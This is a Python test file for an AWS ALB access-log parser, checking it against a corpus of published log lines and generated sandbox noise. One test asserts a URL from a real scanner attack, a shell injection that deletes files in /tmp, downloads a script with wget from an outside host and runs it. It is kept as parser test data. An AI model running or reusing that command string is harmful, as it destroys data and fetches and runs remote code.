"""Real ALB access-log lines from public sources parse, as AWS writes them for a healthy ALB.

tests/corpus/alb_access_logs.txt holds each line as its source published it,
after a `# source:` comment naming where it comes from: AWS's documentation at
five points of its history (20 to 29 fields, HTTP, HTTPS, h2, ws, wss, Lambda,
redirects), open-source parsers' test data (scanners, garbage request lines,
460/504, escaped bytes, IPv6 clients, the connection trace id, the 2025
transform fields) and public issues (a raw space in the URI, classified
"Acceptable" "SpaceInUri"). A line whose source masked it with placeholders
holding spaces, or with a made-up ELB id, is marked so; no ALB writes it, and
the parser refuses it naming a field rather than misreading it.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from fixtures.rules.alb_logs import AlbLogLineError, parse_line, request_parts
from fixtures.sandbox.log_noise import noise_lines

CORPUS = Path(__file__).parent / "corpus" / "alb_access_logs.txt"
MASKED = "[unparseable as published: masked by the source]"


def corpus() -> list[tuple[str, str]]:
    """(source comment, line) for every line of the corpus."""
    return [(source, line) for _number, source, line in numbered()]


def numbered() -> list[tuple[int, str, str]]:
    """(line number in the file, source comment, line) for every line of the corpus."""
    entries, source = [], None
    for number, line in enumerate(CORPUS.read_text(encoding="utf-8").splitlines(), start=1):
        if line.startswith("# source:"):
            source = line
        elif line.strip() and not line.startswith("#"):
            assert source, f"a corpus line without its source: {line[:80]}"
            entries.append((number, source, line))
            source = None
    return entries


def test_the_corpus_is_many_lines_from_many_sources():
    entries = corpus()
    sources = {source.split()[2].split("/blob/")[0].split(":")[0] for source, _line in entries}
    assert len(entries) >= 60 and len(sources) >= 8, (len(entries), sorted(sources))


@pytest.mark.parametrize(
    ("source", "line"), [entry[1:] for entry in numbered()], ids=[f"line{entry[0]}" for entry in numbered()]
)
def test_every_line_aws_writes_parses(source, line):
    if MASKED in source:
        with pytest.raises(AlbLogLineError):
            parse_line(line)
        return
    parsed = parse_line(line)
    assert parsed.elb.startswith("app/")
    method, url, protocol = request_parts(parsed.request)
    if protocol is not None:
        assert protocol.startswith("HTTP/") and method and url  # a well-formed request line


def test_a_raw_space_in_the_uri_stays_in_the_url():
    (line,) = [line for source, line in corpus() if "issues/3491" in source]
    parsed = parse_line(line)
    assert parsed.method == "GET" and parsed.protocol == "HTTP/1.1"
    assert parsed.url == "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
    assert parsed.redirect_url.startswith("https://127.0.0.1:443/shell?")


def test_the_sandboxs_internet_noise_is_every_shape_parsed_as_this_albs():
    from datetime import datetime, timezone

    lines = noise_lines("app/cruddur-alb/50dc6c495c0c9188", "cloudproject.test", datetime.now(timezone.utc))
    parsed = [parse_line(line) for line in lines]
    assert {line.elb for line in parsed} == {"app/cruddur-alb/50dc6c495c0c9188"}
    assert {line.type for line in parsed} >= {"http", "https", "h2", "wss"}
    assert {line.elb_status_code for line in parsed} >= {400, 460, 463, 502}
    assert any(line.classification_reason == "SpaceInUri" for line in parsed)
    assert any(line.extra for line in parsed)  # fields after the documented ones
